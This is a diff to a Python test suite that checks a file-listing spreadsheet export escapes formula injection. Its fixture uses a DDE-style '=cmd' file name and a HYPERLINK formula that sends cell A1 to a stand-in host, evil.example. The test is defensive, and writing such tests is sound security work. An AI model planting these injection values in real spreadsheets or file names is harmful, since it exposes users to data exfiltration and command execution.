@@ -21,7 +21,7 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 def house(tmp_path_factory: pytest.TempPathFactory) -> House:
     house = fill(tmp_path_factory.mktemp("library"))
     with house.open():
-        house.write("=cmd|' !A0.txt", EVIL)
+        house.write("=cmd+' !A0.txt", EVIL)
         house.write("minus.txt", "-2+3\nand more")
         house.look()
     return house
@@ -61,7 +61,7 @@ def test_no_cell_of_a_spreadsheet_is_a_formula(ask: Ask, tmp_path: Path) -> None
     assert tuple(rows[0]) == COLUMNS
     assert not [cell for row in rows for cell in row.values() if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
     (evil,) = [row for row in rows if row["name"].endswith("A0.txt")]
-    assert (evil["name"], evil["text"]) == ("'=cmd|' !A0.txt", f"'{EVIL}")
+    assert (evil["name"], evil["text"]) == ("'=cmd+' !A0.txt", f"'{EVIL}")
     (minus,) = [row for row in rows if row["name"] == "minus.txt"]
     assert minus["text"] == "'-2+3\nand more"
     assert minus["size"] == "13"
